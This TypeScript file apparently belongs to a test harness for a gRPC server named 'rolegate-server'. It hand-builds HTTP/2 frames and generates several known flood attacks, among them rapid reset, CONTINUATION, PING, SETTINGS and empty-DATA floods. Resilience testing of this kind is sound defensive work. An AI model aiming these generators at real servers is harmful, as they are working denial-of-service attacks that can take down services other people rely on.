import type { Flood } from '../calls.ts';

/** RFC 9113, 3.4. */
export const PREFACE = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n';

/** RFC 9113, 6. */
const TYPES = {
  DATA: 0,
  HEADERS: 1,
  PRIORITY: 2,
  RST_STREAM: 3,
  SETTINGS: 4,
  PING: 6,
  WINDOW_UPDATE: 8,
  CONTINUATION: 9,
} as const;
const END_STREAM = 0x1;
const END_HEADERS = 0x4;
const CANCEL = 8;

/** Frames per write. */
const FRAMES = 500;
const LARGE_HEADERS = { count: 7, bytes: 1_000 };
const HIGHEST_STREAM = 2 ** 31 - 1;

export function frame(
  type: keyof typeof TYPES,
  flags: number,
  stream: number,
  payload: Uint8Array = Buffer.alloc(0),
): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(TYPES[type], 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** The connection preface and a SETTINGS frame. */
export function hello(): Buffer {
  return Buffer.concat([Buffer.from(PREFACE, 'latin1'), frame('SETTINGS', 0, 0)]);
}

/** Literal fields without Huffman codes and indexing (RFC 7541, 6.2.2). */
function headerBlock(fields: Readonly<Record<string, string>>): Buffer {
  return Buffer.concat(
    Object.entries(fields).flatMap(([name, value]) => [Buffer.of(0), literal(name), literal(value)]),
  );
}

function literal(text: string): Buffer {
  const bytes = Buffer.from(text, 'latin1');
  if (bytes.length < 127) return Buffer.concat([Buffer.of(bytes.length), bytes]);
  const length: number[] = [127];
  let rest = bytes.length - 127;
  for (; rest >= 128; rest = Math.floor(rest / 128)) length.push((rest % 128) + 128);
  return Buffer.concat([Buffer.from(length.concat(rest)), bytes]);
}

export function callHeaders(path: string): Buffer {
  return headerBlock({
    ':method': 'POST',
    ':scheme': 'https',
    ':path': path,
    ':authority': 'rolegate-server',
    te: 'trailers',
    'content-type': 'application/grpc',
  });
}

/** Returns a generator of a flood's chunks on one connection. It returns undefined when stream IDs are used up. */
export function floodOf(flood: Flood, path: string): () => Buffer | undefined {
  let stream = -1;
  const next = () => (stream += 2);
  const repeated = (make: () => Buffer) => {
    const piece = Buffer.concat(Array.from({ length: FRAMES }, make));
    return () => piece;
  };
  const numbered = (make: (id: number) => readonly Buffer[]) => () =>
    stream + 2 * FRAMES > HIGHEST_STREAM
      ? undefined
      : Buffer.concat(Array.from({ length: FRAMES }, () => make(next())).flat());
  const head = callHeaders(path);
  /** The first chunk opens a stream for the others. */
  const onStream = (flags: number, make: () => Buffer) => {
    const others = repeated(make);
    let opened = false;
    return () => {
      if (opened) return others();
      opened = true;
      return frame('HEADERS', flags, 1, head);
    };
  };

  switch (flood) {
    case 'PING':
      return repeated(() => frame('PING', 0, 0, Buffer.alloc(8)));
    case 'SETTINGS':
      return repeated(() => frame('SETTINGS', 0, 0));
    case 'PRIORITY':
      return numbered((id) => [frame('PRIORITY', 0, id, Buffer.alloc(5))]);
    case 'WINDOW_UPDATE':
      return repeated(() => frame('WINDOW_UPDATE', 0, 0, uint32(1)));
    case 'rapid reset':
      return numbered((id) => [
        frame('HEADERS', END_HEADERS, id, head),
        frame('RST_STREAM', 0, id, uint32(CANCEL)),
      ]);
    case 'empty DATA':
      return onStream(END_HEADERS, () => frame('DATA', 0, 1));
    case 'large headers': {
      const fields = Array.from({ length: LARGE_HEADERS.count }, (_, at) => [
        `x-${at}`,
        'x'.repeat(LARGE_HEADERS.bytes),
      ]);
      const large = Buffer.concat([head, headerBlock(Object.fromEntries(fields) as Record<string, string>)]);
      return numbered((id) => [frame('HEADERS', END_HEADERS + END_STREAM, id, large)]);
    }
    case 'CONTINUATION':
      return onStream(0, () => frame('CONTINUATION', 0, 1, headerBlock({ 'x-more': 'x'.repeat(200) })));
    case 'small requests':
      return numbered((id) => [frame('HEADERS', END_HEADERS + END_STREAM, id, callHeaders('/x/y'))]);
  }
}

function uint32(value: number): Buffer {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
}
